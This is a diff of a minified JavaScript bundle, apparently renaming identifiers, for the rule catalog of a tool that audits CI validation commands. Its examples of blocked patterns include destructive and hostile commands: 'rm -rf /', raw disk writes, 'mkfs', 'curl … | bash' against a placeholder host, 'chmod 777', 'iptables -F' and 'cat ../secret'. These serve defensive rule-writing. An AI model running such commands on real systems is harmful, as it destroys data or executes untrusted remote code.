+`;function Bu(p){const{head:w}=At(p);return{head:{...w,"src/sum.js":`exports.sum = (a, b) => a + b;
 `},policy:`${ns}mutants: auto
 `,run:{}}}const In=At(`console.log('OK');
-`),vs={...In,run:{prepare:"node --version"}},ey={"target-writes":"The audit cannot tell where to."},Ds=`const fs = requi\
+`),vs={...In,run:{prepare:"node --version"}},XC={"target-writes":"The audit cannot tell where to."},Ds=`const fs = requi\
 re('node:fs');
-`,gu={...At(`${Ds}fs.readFileSync('.env.test');
+`,fu={...At(`${Ds}fs.readFileSync('.env.test');
 `),run:{untracked:{".env.test":`MODE=test
-`}}},Wi=`setInterval(() => {}, 1000);
-`;function Cu(p){return p.map(w=>`; ${w}`).join("")}const qi=5;function xs(p){return`${(0,s.p)(p.slice(0,qi))}${p.length>
-qi?", \u2026":""}`}function yu(p,w,A){const J=A>qi?` (${A} files)`:"",ye=`${xs(w)}${J}`;return p==="functions_fail"?`eve\
-ry function of ${ye} made to fail`:p==="unparsable"?`${ye} made unreadable for every parser`:`${ye} broken`}const ty=c("\
+`}}},qi=`setInterval(() => {}, 1000);
+`;function hu(p){return p.map(w=>`; ${w}`).join("")}const Wi=5;function xs(p){return`${(0,s.p)(p.slice(0,Wi))}${p.length>
+Wi?", \u2026":""}`}function pu(p,w,A){const J=A>Wi?` (${A} files)`:"",ye=`${xs(w)}${J}`;return p==="functions_fail"?`eve\
+ry function of ${ye} made to fail`:p==="unparsable"?`${ye} made unreadable for every parser`:`${ye} broken`}const QC=c("\
 run","broken",{"command-failed":i({counted:["how"],title:"Validation command failed",why:"A command passes when it exits\
  with code 0. It fails with any other code, and if it could not start or was killed by a signal: without an exit code it\
  has validated nothing. The later commands of the gene are skipped. If containment explains the failure, because a comma\
 nd reached a limit or needs something of the machine that it does not see, the finding says what to change.",wrong:At(`c\
 onsole.error('Missing required.txt');
 process.exit(1);
-`),right:In,message:({command:p,how:w,causes:A})=>`The command \`${p}\` ${w}${Cu(A)}.`,remedy:({command:p,change:w})=>w||
+`),right:In,message:({command:p,how:w,causes:A})=>`The command \`${p}\` ${w}${hu(A)}.`,remedy:({command:p,change:w})=>w||
 `Run \`${p}\` locally, fix what it reports or why it ends, and push again.`}),"command-timed-out":i({title:"Validation c\
 ommand exceeded its time limit",why:"A command that hangs would block the pull request forever. After the time limit (18\
-0 seconds by default), its process group is asked to terminate, and killed if it does not.",wrong:{...At(Wi),policy:`lim\
+0 seconds by default), its process group is asked to terminate, and killed if it does not.",wrong:{...At(qi),policy:`lim\
 its:
   command_timeout_seconds: 1
 `},right:{...In,policy:`limits:
   command_timeout_seconds: 60
 `},configure:`limits:
   command_timeout_seconds: 300`,message:({command:p,seconds:w,causes:A})=>`The command \`${p}\` exceeded its time limit a\
-nd was stopped after ${w} seconds${Cu(A)}.`,remedy:({change:p})=>p||"Split the command into smaller checks, or find out \
+nd was stopped after ${w} seconds${hu(A)}.`,remedy:({change:p})=>p||"Split the command into smaller checks, or find out \
 what it waits for."}),"budget-spent":i({title:"Time limit for all commands was exceeded",why:"All commands of a run shar\
 e one time limit, in addition to the time limit of each command, so that the gate can report before the job itself is st\
 opped. When the time is up, running commands are stopped and the remaining ones do not start. A command that did not fin\
-ish has not passed.",wrong:{...At(Wi),policy:`limits:
+ish has not passed.",wrong:{...At(qi),policy:`limits:
   budget_seconds: 1
 `},right:{...In,policy:`limits:
   budget_seconds: 60
@@ -1372,22 +1374,22 @@ en the change is broken",why:"A command that cannot fail validates nothing. Afte
 n once more on a copy in which each function of the changed files fails. A command that passes there as well does not de\
 tect that defect. It is a warning if no command of the gene detects it, or if the command runs tests, and otherwise a no\
 tice: a linter need not see what tests see. [Can it fail?](../commands.md#can-it-fail) says what this proves and what it\
- does not.",wrong:mu(`console.log('OK');
-`),right:mu(`const { sum } = require('../src/sum.js');
+ does not.",wrong:Bu(`console.log('OK');
+`),right:Bu(`const { sum } = require('../src/sum.js');
 if (sum(1, 2) !== 3) process.exit(1);
 `),configure:`mutants: off
 # or, to require it of every gene
 rules:
   passes-when-broken: error`,counted:["files","total","how"],message:({command:p,files:w,total:A,how:J,isExisting:ye})=>ye?
-`The command \`${p}\` notices defects of new files only: it also passed with ${yu(J,w,A)}, which existed before.`:`The c\
-ommand \`${p}\` also passed with ${yu(J,w,A)}; it does not detect this.`,remedy:({files:[p="the change",...w]})=>`Make o\
+`The command \`${p}\` notices defects of new files only: it also passed with ${pu(J,w,A)}, which existed before.`:`The c\
+ommand \`${p}\` also passed with ${pu(J,w,A)}; it does not detect this.`,remedy:({files:[p="the change",...w]})=>`Make o\
 ne command fail when \`${p}\`${w.length>0?" (or another of these files)":""} is broken, for example by a test that calls\
  it. Remove or replace a command that checks nothing.`}),"command-writes":o({title:"Validation command writes to the che\
 ckout",why:"A validation command should only read. Each command has a private copy of the checkout, so its output files \
 are discarded when it ends, and a later command that needs them fails. Caches are not reported.",wrong:{...At(`${Ds}fs.w\
 riteFileSync('report.txt', 'OK');
 `),policy:ns},right:{...At(`${Ds}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
-`),policy:ns,also:ey},configure:`caches:
+`),policy:ns,also:XC},configure:`caches:
   - '**/.cache/**'
   - 'coverage/**'`,message:({command:p,paths:w})=>`The command \`${p}\` wrote to the checkout: ${xs(w)}.`,remedy:"Write \
 to the temporary directory (`TMPDIR`), or add the cache to `caches` in the policy."}),"checkout-modified":i({harm:"dange\
@@ -1428,8 +1430,8 @@ ch as an editor or a build in watch mode, and run the gate again."}),"file-left-
 hat it does not see",why:"Each command has a new private copy of the audited commit, with installed dependencies, what `\
 prepare` wrote, and the files that `build_outputs` in the policy names. Other files of the checkout, untracked or ignore\
 d, have not been reviewed and are not there. Nor is what an earlier command wrote: no command can prepare what the next \
-one checks. The finding names files that the output of a failed command mentions.",wrong:{...gu,also:{"command-failed":"\
-This is why."}},right:{...gu,policy:`build_outputs:
+one checks. The finding names files that the output of a failed command mentions.",wrong:{...fu,also:{"command-failed":"\
+This is why."}},right:{...fu,policy:`build_outputs:
   - .env.test
 `},configure:`build_outputs:
   - dist/**
@@ -1441,21 +1443,21 @@ views: gene`,message:({command:p,paths:w,writer:A})=>`The command \`${p}\` faile
 e it in `prepare`, or name it in `build_outputs` in the policy of the base branch.":"Do both steps in one script, create\
  the file in `prepare`, or set `views: gene` in the policy."}),"run-interrupted":i({title:"Run was interrupted",why:"A c\
 anceled job or an interrupted terminal leaves commands without a result. A command that did not run has not passed.",wrong:{
-...At(Wi),run:{cancelled:!0}},right:In,message:({skipped:p})=>`The run was interrupted before ${p===1?"one command":`${p}\
+...At(qi),run:{cancelled:!0}},right:In,message:({skipped:p})=>`The run was interrupted before ${p===1?"one command":`${p}\
  commands`} finished.`,remedy:"Run the gate again."}),"part-of-run":a({title:"Report covers one shard of a run",why:"In \
 a matrix, each machine runs only the genes of its own shard. One shard can show that a gene fails, but only all shards t\
 ogether can show that all genes pass. A shard whose genes pass therefore has the verdict `error`, and `shards[0].verdict\
 ` is the verdict of its own genes. See [matrix](../github.md#on-several-machines).",wrong:{...te({id:"gene_a"},{id:"gene\
 _b"}),run:{shard:"1/2"}},right:{...te({id:"gene_a"},{id:"gene_b"}),run:{}},message:({index:p,of:w,genes:A})=>`This repor\
 t covers only shard ${p} of ${w}, with ${A===1?"one gene":`${A} genes`}.`,remedy:"Merge the reports of all shards with `\
-gene-gate merge`, or with `mode: report` in the action."})}),wu={...{"evolver/assets/gep/genes.json":[G({validation:["no\
+gene-gate merge`, or with `mode: report` in the action."})}),mu={...{"evolver/assets/gep/genes.json":[G({validation:["no\
 de check.js"]})],"evolver/check.js":`work();
 `},"evolver/package.json":`{ "name": "evolver" }
 `},Vi=`stores:
 - path: evolver
   root: evolver
-`;function ny(p,w){return p==="moves"?`after this change they would run in ${w}`:p==="accepts"?`this one is refused ther\
-e, and would be accepted in ${w}`:`a package.json above it is also in ${w}`}const sy=c("change","danger",{"store-root-mi\
+`;function ey(p,w){return p==="moves"?`after this change they would run in ${w}`:p==="accepts"?`this one is refused ther\
+e, and would be accepted in ${w}`:`a package.json above it is also in ${w}`}const ty=c("change","danger",{"store-root-mi\
 ssing":i({forbidsRunning:"change",title:"Root of a store does not exist",why:"Commands of a store run in its root: the d\
 irectory that the policy names for it, or the one that the base has. Without that directory they would not run at all.",
 wrong:{head:{[j]:[G()]},policy:`stores:
@@ -1470,18 +1472,18 @@ n the policy on the base branch.`}),"store-root-unclear":a({title:"Store could h
  store run in the nearest directory above it that has a package.json, else in the root of the repository, unless the pol\
 icy names another one. Some engines run them in the root of the repository (`EVOLVER_USE_PARENT_GIT=true`). The gate doe\
 s not choose a directory because a command works there. A change that adds or removes a package.json so that later chang\
-es are judged with another root is a warning.",wrong:{head:wu},right:{head:wu,policy:Vi},configure:Vi,message:({store:p,
-root:w,others:A,because:J})=>`The commands of \`${p}\` run in \`${w}\`; ${ny(J,(0,s.p)(A))}.`,remedy:"If an engine runs \
-them elsewhere, set the root in the policy on the base branch: `stores: [{path: {store}, root: DIRECTORY}]`."})}),ry={"&":"\
+es are judged with another root is a warning.",wrong:{head:mu},right:{head:mu,policy:Vi},configure:Vi,message:({store:p,
+root:w,others:A,because:J})=>`The commands of \`${p}\` run in \`${w}\`; ${ey(J,(0,s.p)(A))}.`,remedy:"If an engine runs \
+them elsewhere, set the root in the policy on the base branch: `stores: [{path: {store}, root: DIRECTORY}]`."})}),ny={"&":"\
 Remove `&`","|":"Move both steps into one script and run it with `node`","||":"Keep the command that must succeed and re\
-move the rest, which hides a failure"};function iy(p,w,A,J){if(!J)return`\`${p}\` expands to the names of the files that \
+move the rest, which hides a failure"};function sy(p,w,A,J){if(!J)return`\`${p}\` expands to the names of the files that \
 exist.`;if(A===0)return`\`${p}\` matches no file and is passed unchanged.`;const ye=A>w.length?` and ${A-w.length} more`:
-"";return`\`${p}\` expands to ${(0,s.p)(w)}${ye}.`}const oy={bracket:"shells disagree about its brackets",dot:"it matche\
+"";return`\`${p}\` expands to ${(0,s.p)(w)}${ye}.`}const ry={bracket:"shells disagree about its brackets",dot:"it matche\
 s the directory itself in some shells",empty_segment:"shells disagree about an empty path segment",flag:"a matching file\
  name can begin with `-`, which the program reads as a flag",letters:"a letter in a file name counts as one or several c\
 haracters, depending on the locale",symlink:"it leads through a symbolic link or a submodule",file_name:"a matching file\
  name contains a character that is not allowed in commands",outside:"it leads to files outside the repository",program:"\
-it lets file names decide what runs",too_many:"there are too many patterns or matching files"},ay=c("syntax","broken",{"\
+it lets file names decide what runs",too_many:"there are too many patterns or matching files"},iy=c("syntax","broken",{"\
 empty-command":i({title:"Command is empty or has no program",why:"A command that runs nothing validates nothing, and a s\
 hell reports success for it.",wrong:"NODE_ENV=test",right:{command:"NODE_ENV=test node scripts/validate.js",also:{"envir\
 onment-assignment":"The remaining variable is allowed."}},message:"The command does not name a program to run.",remedy:"\
@@ -1497,7 +1499,7 @@ s the rest of the command out of the reviewer's view. No command needs it.",wron
 tor",cause:({operator:p})=>`shell operator ${p}`,title:"Command contains a shell operator",why:"Commands run without a s\
 hell, one process per command, so that what runs is exactly what was audited. A shell reads `;`, `&`, and `|` as the end\
  of one command and the start of another.",wrong:"node scripts/a.js && node scripts/b.js",right:"node scripts/a.js",message:"\
-The command contains the shell operator `{operator}`, but commands run without a shell.",remedy:({operator:p})=>`${ry[p]??
+The command contains the shell operator `{operator}`, but commands run without a shell.",remedy:({operator:p})=>`${ny[p]??
 "Write each command that checks something as a separate entry"}; if \`${p}\` is data, quote it.`}),"shell-redirection":i(
 {shape:"redirection",title:"Command redirects input or output",why:"Commands run without a shell, so nothing opens the f\
 ile and the program receives the redirection as an argument. In a shell, a redirection can write any file that the user \
@@ -1575,12 +1577,12 @@ ipts/ok.js"',message:({word:p,looks_like:w,characters:A})=>`\`${p}\` looks like 
 "matches"],title:"Command contains an unquoted glob pattern",why:"The result of a glob pattern depends on which files ex\
 ist. The gate expands the pattern against the audited files, in byte order, and reports the result. A quoted pattern mea\
 ns the same everywhere.",wrong:"node --test test/*.test.js",right:"node --test 'test/*.test.js'",message:({pattern:p,matches:w,
-count:A,judged:J})=>iy(p,w,A,J),remedy:({pattern:p})=>`Name the files, or quote the pattern, \`${(0,s.f)(p)}\`, if it is \
+count:A,judged:J})=>sy(p,w,A,J),remedy:({pattern:p})=>`Name the files, or quote the pattern, \`${(0,s.f)(p)}\`, if it is \
 data or the tool expands it.`}),"glob-unclear":i({instance:["pattern"],title:"Glob pattern decides what runs, or is ambi\
 guous",why:"File names must not choose the program or script, or become flags: adding a file would change what the comma\
 nd does. A pattern that leads out of the repository, about which shells or locales disagree, or that leads through a lin\
 k, means something else on each machine.",wrong:"node *",right:"node scripts/validate.js '[^a]*'",message:({pattern:p,reason:w})=>`\
-The glob pattern \`${p}\` is not expanded: ${oy[w]}.`,remedy:({pattern:p})=>`Name the program, the script and the files,\
+The glob pattern \`${p}\` is not expanded: ${ry[w]}.`,remedy:({pattern:p})=>`Name the program, the script and the files,\
  or quote the pattern, \`${(0,s.f)(p)}\`, if it is data.`}),"environment-assignment":o({title:"Command sets an environme\
 nt variable",why:"The gate adds the variable to the environment of this command, as a shell does. It reports the variabl\
 e because the command can behave differently without it.",wrong:"NODE_ENV=test npm test",right:"npm test",message:"The c\
@@ -1599,31 +1601,31 @@ utes if a program prints it.`,remedy:"Write the text without `::` and `##[`."}),
 anger",title:"Argument contains markup that hides text in reports",why:"An HTML comment hides the text after it from rev\
 iewers, and a code fence ends the block that shows the command.",wrong:"node scripts/echo.js '<!-- x -->'",right:"node s\
 cripts/echo.js 'x'",message:"`{written}` hides or breaks the text around it where the command is displayed.",remedy:"Rem\
-ove the markup, or read the text from a file."})}),cy=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
+ove the markup, or read the text from a file."})}),oy=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
 (p,w)=>[String(w),w<65?`npm run ${w+1}`:"node x.js"]))});function hn(p,w=""){const A=w===""?"":`, ${w}`;return{command:"\
 npm test",files:{"package.json":`{ "scripts": ${`{ "test": "${p}"${A} }`} }`}}}function Yi(p,w){const A={"package.json":`\
-{ "scripts": { ${w} } }`};return{command:`npm run ${p}`,files:A}}function bu(p,w){return{command:"npm test",files:{".npm\
-rc":p},...w===void 0?{}:{base:{".npmrc":w}}}}function _u(p){return{command:"node --env-file=.env scripts/check.js",files:{
+{ "scripts": { ${w} } }`};return{command:`npm run ${p}`,files:A}}function gu(p,w){return{command:"npm test",files:{".npm\
+rc":p},...w===void 0?{}:{base:{".npmrc":w}}}}function Cu(p){return{command:"node --env-file=.env scripts/check.js",files:{
 ".env":p}}}function Xi(p){return{command:"node scripts/check.js",files:{"scripts/check.js":p}}}function lr(p){return{command:"\
-npx eslint src",files:p}}function Eu(p){const w=[G({validation:["node scripts/extra.js"]})];return{head:{[j]:w,"scripts/\
-extra.js":p}}}function ku(p){const w=A=>`{ "devDependencies": { "eslint": "${A}" } }
-`;return{...lr({"package.json":w(p)}),base:{"package.json":w("1.0.0")}}}const vu={"package.json":'{ "workspaces": ["pk/*\
+npx eslint src",files:p}}function yu(p){const w=[G({validation:["node scripts/extra.js"]})];return{head:{[j]:w,"scripts/\
+extra.js":p}}}function wu(p){const w=A=>`{ "devDependencies": { "eslint": "${A}" } }
+`;return{...lr({"package.json":w(p)}),base:{"package.json":w("1.0.0")}}}const bu={"package.json":'{ "workspaces": ["pk/*\
 "] }',"pk/a/package.json":'{ "name": "a", "scripts": { "test": "node --test" } }',"pk/b/package.json":'{ "name": "b", "s\
-cripts": { "test": "node --test" } }'},Qi={command:"npm test --workspaces",base:vu,files:vu},uy={committed:p=>`\`${p}\` i\
+cripts": { "test": "node --test" } }'},Qi={command:"npm test --workspaces",base:bu,files:bu},ay={committed:p=>`\`${p}\` i\
 s committed, so a change can edit it`,elsewhere:p=>`\`${p}\` does not belong to it`,linked:p=>`\`${p}\` is another path t\
 o its files`,removed:()=>"the change removes it from the lockfile",undeclared:()=>"it is not declared in package.json",unlocked:()=>"\
-it is not in the lockfile"},ly={alias:(p,w)=>`installs the package \`${w}\` under the name \`${p}\``,file:(p,w)=>`instal\
+it is not in the lockfile"},cy={alias:(p,w)=>`installs the package \`${w}\` under the name \`${p}\``,file:(p,w)=>`instal\
 ls \`${p}\` from \`${w}\`, and not from where the base branch has it`,git:(p,w)=>`installs \`${p}\` from the git reposito\
 ry \`${w}\``,host:(p,w)=>`installs \`${p}\` from the host \`${w}\`, which the base branch does not use`,integrity:(p,w)=>`\
 has other content for the same version of \`${p}\`: \`${w}\``,tarball:(p,w)=>`installs \`${p}\` from the archive \`${w}\``},
-dy={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"\
+uy={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"\
 is in the `.git` directory, which is not part of any commit",workspace:"names workspaces that can be outside the reposit\
-ory"},By={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a\
- backslash",loop:"its symbolic links form a loop"},fy={depth:"scripts that run each other",count:"scripts of one command",
-time:"seconds for the scripts of all commands"},hy=c("target","broken",{"target-outside":i({harm:"danger",title:"Command\
+ory"},ly={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a\
+ backslash",loop:"its symbolic links form a loop"},dy={depth:"scripts that run each other",count:"scripts of one command",
+time:"seconds for the scripts of all commands"},By=c("target","broken",{"target-outside":i({harm:"danger",title:"Command\
  runs a file outside the repository",why:"Only the contents of the commit have been reviewed. A path that leads out of t\
 he repository, directly or through a symbolic link, names a file of one machine, and files in `.git` are not part of any\
- commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:p,reason:w})=>`\`${p}\` ${dy[w]??
+ commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:p,reason:w})=>`\`${p}\` ${uy[w]??
 "is outside the repository"}.`,remedy:"Add the file to the repository and use its path relative to the root."}),"target-\
 missing":i({absent:!0,counted:["near","written"],title:"Command runs a file that the commit does not have",why:"Commands\
  see the audited commit, installed dependencies, what `prepare` wrote, and the files that `build_outputs` in the policy \
@@ -1631,8 +1633,8 @@ names. A file on disk that is none of these has not been reviewed, and other mac
 bmodule is not: the change of a submodule is one commit id.",wrong:"node scripts/chek.js",right:"node scripts/check.js",
 message:({path:p,untracked:w,submodule:A,near:J,written:ye})=>{const $t=w?"is on disk, but not part of the audited commi\
 t":A===void 0?"does not exist in the repository at this commit":`is in the submodule \`${A}\`, whose files are not part o\
-f the audited commit`,pn=J===void 0?"":`; \`${J}\` exists`,wy=ye===void 0?"":` A shell reads each \`\\\` of \`${ye}\` as \
-an escape and removes it.`;return`\`${p}\` ${$t}${pn}.${wy}`},remedy:({near:p,written:w})=>p!==void 0?`Write \`${p}\`, or\
+f the audited commit`,pn=J===void 0?"":`; \`${J}\` exists`,Cy=ye===void 0?"":` A shell reads each \`\\\` of \`${ye}\` as \
+an escape and removes it.`;return`\`${p}\` ${$t}${pn}.${Cy}`},remedy:({near:p,written:w})=>p!==void 0?`Write \`${p}\`, or\
  add the missing file to the change.`:w!==void 0?"Write `/` between the parts of a path.":"Add the file to the change, o\
 r correct the path. If a build writes the file, run the build in `prepare`, or name the file in `build_outputs` in the p\
 olicy of the base branch."}),"target-not-judged":a({title:"Target is judged when commands run",why:"The first half of th\
@@ -1643,7 +1645,7 @@ when commands run, after `prepare`.",remedy:"Run the gate with its commands to j
 Command runs a path that is not a regular file",why:"Node.js runs a directory only if it has a main file: the `main` of \
 its package.json, or `index.js`. A loop of symbolic links or a path with backslashes has different meanings on different\
  machines.",wrong:"node scripts",right:"node src",message:({path:p,reason:w})=>`\`${p}\` is not the path of a regular fil\
-e: ${By[w]??w}.`,remedy:"Name a regular file, with forward slashes in its path."}),"target-extension":i({title:"File is \
+e: ${ly[w]??w}.`,remedy:"Name a regular file, with forward slashes in its path."}),"target-extension":i({title:"File is \
 not code of the language that runs it",why:"Node.js runs `.js`, `.mjs`, `.cjs`, and, in newer versions, `.ts` files. It \
 loads `.node` files as native code. Other programs start a shell for a file of another language, load native code, or se\
 rve the file.",wrong:"node data.json",right:"node scripts/check.js",message:"`{path}` has the extension `.{extension}`, \
@@ -1653,13 +1655,13 @@ e.json declares it, the lockfile fixes its contents, and it is installed from th
 les` has another name, version, or binary than the lockfile, another program would run.",wrong:{command:"npx tool-of-a-d\
 ependency",files:{"node_modules/.bin/tool-of-a-dependency":{symlink:"../dependency/tool.js"},"node_modules/dependency/to\
 ol.js":"#!/usr/bin/env node"}},right:"npx eslint src",message:({name:p,path:w,fault:A,differs:J=A})=>`The package \`${p}\
-\` is not verified: ${uy[A]?.(w)??J}.`,remedy:"Declare `{name}` in package.json, commit the lockfile with its entry, kee\
+\` is not verified: ${ay[A]?.(w)??J}.`,remedy:"Declare `{name}` in package.json, commit the lockfile with its entry, kee\
 p `node_modules` out of git, and install the dependencies of the lockfile."}),"dependency-redirected":i({harm:"danger",title:"\
 Change takes a dependency from elsewhere",why:"A tool that a command starts must be the package of its name from a regis\
 try that the base branch uses. An alias, a git repository, an archive, a path outside the repository, a directory of the\
  repository in place of a published package, an unknown registry host, or other content under the same version is the co\
 de of somebody else. Another version of an alias or commit of a git repository that the base branch already has is accep\
-ted.",wrong:ku("github:someone/eslint"),right:ku("1.0.1"),message:({name:p,path:w,how:A,to:J})=>`\`${w}\` ${ly[A](p,J)}.`,
+ted.",wrong:wu("github:someone/eslint"),right:wu("1.0.1"),message:({name:p,path:w,how:A,to:J})=>`\`${w}\` ${cy[A](p,J)}.`,
 remedy:({name:p,how:w})=>w==="integrity"?"Restore the entry of the base branch: the content of a published version does \
 not change.":`Use \`${p}\` from a registry that the base branch uses, or add the dependency to the base branch first.`}),
 "dependency-not-compared":o({title:"Tool is not compared with the base branch",why:"The gate reads the lockfile of npm (\
@@ -1699,9 +1701,9 @@ idates it",why:"The validation changed together with the code that it validates,
  file as carefully as the rest of the change."}),"script-unreadable":o({counted:["why"],title:"Change adds a script that\
  nobody can read",why:"Reviewers read what validates a change. They cannot read a script of more than 200 kB, or one wit\
 h a line of more than 2,000 characters, of which GitHub shows nothing or a part. The gene waits for the approval of a pe\
-rson, as for a dangerous command. A script that nobody could read at the base is not reported.",wrong:Eu(`const data = '\
+rson, as for a dangerous command. A script that nobody could read at the base is not reported.",wrong:yu(`const data = '\
 <2,001 letters>';
-`),right:Eu(`console.log('OK');
+`),right:yu(`console.log('OK');
 `),message:"`{path}` {why}, and the command runs it.",remedy:"Write `{path}` so that it can be read, with its data in ot\
 her files, or ask a person to approve it."}),"target-writes":o({writes:!0,title:"Script changes files",why:"The source o\
 f the script writes or deletes files, so the script can pass because of what it wrote.",wrong:Xi("fs.writeFileSync('out.\
@@ -1735,13 +1737,13 @@ r in a cycle",why:"The scripts would run until the time limit stops them.",wrong
  a"'),right:Yi("a",'"a": "node scripts/a.js"'),message:"The npm script `{script}` calls itself.",remedy:"Remove the call\
  that closes the cycle."}),"npm-script-chain":i({title:"npm scripts run too many other scripts",why:"The gate follows th\
 e scripts that an npm script runs, up to a depth, a number, and a total time. What is beyond these limits is not judged.",
-wrong:{command:"npm run 0",files:{"package.json":cy}},right:"npm test",counted:["limit"],message:({script:p,limit:w,what:A})=>`\
-The npm script \`${p}\` is not followed: the limit of ${w} ${fy[A]} is reached.`,remedy:"Run the commands directly in th\
+wrong:{command:"npm run 0",files:{"package.json":oy}},right:"npm test",counted:["limit"],message:({script:p,limit:w,what:A})=>`\
+The npm script \`${p}\` is not followed: the limit of ${w} ${dy[A]} is reached.`,remedy:"Run the commands directly in th\
 e script."}),"npmrc-setting":i({harm:"danger",title:"Settings of npm are not known to be harmless",why:"Settings such as\
  the shell, the Node.js options, the workspaces, and `usage` decide which script npm runs, or whether it runs one. npm p\
 asses every setting to scripts as `npm_config_\u2026`, and replaces `${NAME}` with an environment variable. The gate does not\
  apply them, but other machines do. A setting that the base branch has and that decides nothing is a warning; its `ignor\
-e-scripts`, and its `node-options` with flags that are allowed for `node`, apply.",wrong:bu("script-shell=./sh"),right:bu(
+e-scripts`, and its `node-options` with flags that are allowed for `node`, apply.",wrong:gu("script-shell=./sh"),right:gu(
 "fund=false","fund=true"),message:({path:p,keys:w,why:A})=>{if(w.length===0)return`\`${p}\` cannot be read: ${A}.`;const J=`\
 \`${p}\` sets ${(0,s.p)(w)}`;return A==="decides"?`${J}, which decides what npm runs.`:A==="stands"?`${J}, which is not \
 known to be harmless.`:`${J}, which is new or changed, and not known to be harmless.`},remedy:({path:p,keys:w})=>w.length===
@@ -1775,14 +1777,14 @@ runner = "true"
 t = "check"
 `}},message:"The change edits `{path}`, which can decide what `{program} {subcommand}` runs.",remedy:"Change `{path}` in\
  a separate pull request, or give a module another name."}),"environment-file-unsafe":i({harm:"danger",title:"Environmen\
-t file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",wrong:_u(
-"NODE_OPTIONS=--require=./x.js"),right:{..._u("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule reports\
+t file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",wrong:Cu(
+"NODE_OPTIONS=--require=./x.js"),right:{...Cu("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule reports\
  that it is read."}},message:({path:p,names:w})=>`\`${p}\` ${w.length===0?"is too large to check":`sets ${(0,s.p)(w)}, w\
-hich changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})}),Du={"validator-e\
-mpty-folder":"The validators accept the command but do not find the script."},py=c("policy","broken",{"validator-script":i(
+hich changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})}),_u={"validator-e\
+mpty-folder":"The validators accept the command but do not find the script."},fy=c("policy","broken",{"validator-script":i(
 {title:"Hub validators only run scripts with node",why:"The validators of the protocol's hub start `node` with a script \
 file and nothing else, unless it only prints information. They refuse an npm or npx command, and the gene fails.",wrong:"\
-npm test",right:{command:"node scripts/check.js",also:Du},message:"The hub's validators accept `node SCRIPT` alone, not \
+npm test",right:{command:"node scripts/check.js",also:_u},message:"The hub's validators accept `node SCRIPT` alone, not \
 {command}.",remedy:"Write a Node script that does the same, and run it with `node`."}),"validator-empty-folder":a({title:"\
 Hub validators do not find the script",why:"The validators of the protocol's hub run every command in a new, empty direc\
 tory, without the repository of the gene. A command that they accept can still fail there, because its script does not e\
@@ -1793,27 +1795,27 @@ Hub validators refuse the flag",why:"The validators of the protocol's hub refuse
 e, or open the debugger anywhere in a command, also after the script, where Node.js does not read them. Those of newer v\
 ersions of the reference engine accept no option of `node` but `-c` before a script, or `-v` or `-h` alone, and no backt\
 ick or `$(` even in quotes. Both are in use; what only newer ones refuse is a notice.",wrong:"node scripts/check.js -p 3\
-000",right:{command:"node scripts/check.js --port 3000",also:Du},message:({flag:p,of:w})=>w==="newer"?`The command is ac\
+000",right:{command:"node scripts/check.js --port 3000",also:_u},message:({flag:p,of:w})=>w==="newer"?`The command is ac\
 cepted by the validators of 1.94, not of newer ones, which refuse \`${p}\`.`:`The hub's validators refuse \`${p}\` anywhe\
 re in a command.`,remedy:({flag:p,of:w})=>w==="script"?"Give the flag of the script another name.":`Write the command wi\
-thout \`${p}\`, and do in the script what it is for.`})},"`validator`");function my(p,w,A){return i({layer:1,title:w,why:"\
+thout \`${p}\`, and do in the script what it is for.`})},"`validator`");function hy(p,w,A){return i({layer:1,title:w,why:"\
 The first layer blocks dangerous patterns anywhere in what would run: in a chain, after a prefix, in a substitution, or \
 in an npm script. Text that is data, such as a search pattern, does not match.",wrong:A,right:"cat notes.md",message:({pattern:J})=>`\
 Command blocked by safety rule: Pattern '${J}' matches dangerous pattern '${p}'.`,remedy:"Run the command outside the ag\
-ent."})}const xu=`profile: workspace
+ent."})}const Eu=`profile: workspace
 patterns:
   - name: no_production
     layer: 3
     reason: Validations stay away from production.
     regex: '\\bprod\\b'
     match: [cat config/prod.json]
-    not_match: [cat notes.md]`,gy=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
+    not_match: [cat notes.md]`,py=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
 "Raw disk writing","dd if=/dev/zero of=/dev/sda"],filesystem_format:["Filesystem formatting","mkfs.ext4 /dev/sdb1"],direct_disk_write:[
 "Direct disk writing","echo x > /dev/sda"],remote_code_execution:["Remote code execution","curl http://host.test/x.sh | \
 bash"],world_writable:["World-writable permissions","chmod 777 notes.md"],privilege_escalation:["Privilege escalation","\
 chown root notes.md"],firewall_manipulation:["Firewall manipulation","iptables -F"],system_shutdown:["System shutdown","\
 shutdown -h now"],system_reboot:["System reboot","reboot"],force_kill:["Force kill of processes","kill -9 1"]}).map(([p,
-[w,A]])=>[p,my(p,w,A)])),Cy=c(1,"danger",{...gy,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
+[w,A]])=>[p,hy(p,w,A)])),my=c(1,"danger",{...py,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
 why:"The second layer keeps file operations inside the workspace: every path must be inside it after `..` and symbolic l\
 inks are resolved.",wrong:"cat ../secret",right:"cat notes.md",configure:"`workspace` in the policy; default: the reposi\
 tory.",message:"Command blocked by safety rule: Path '{path}' is outside the workspace.",remedy:"Use a path inside the w\
@@ -1827,13 +1829,13 @@ Command is not allowed",why:"The third layer allows a fixed list of commands. Th
 not been reviewed, delete files, or download anything.",wrong:"wget https://host.test",right:"cat notes.md",configure:"`\
 families` in the policy adds a command.",message:"Command blocked by safety rule: Command '{program}' {objection}.",remedy:"\
 Use one of the allowed commands."}),custom_pattern:i({layer:3,title:"Command matches a pattern of the policy",why:"A pol\
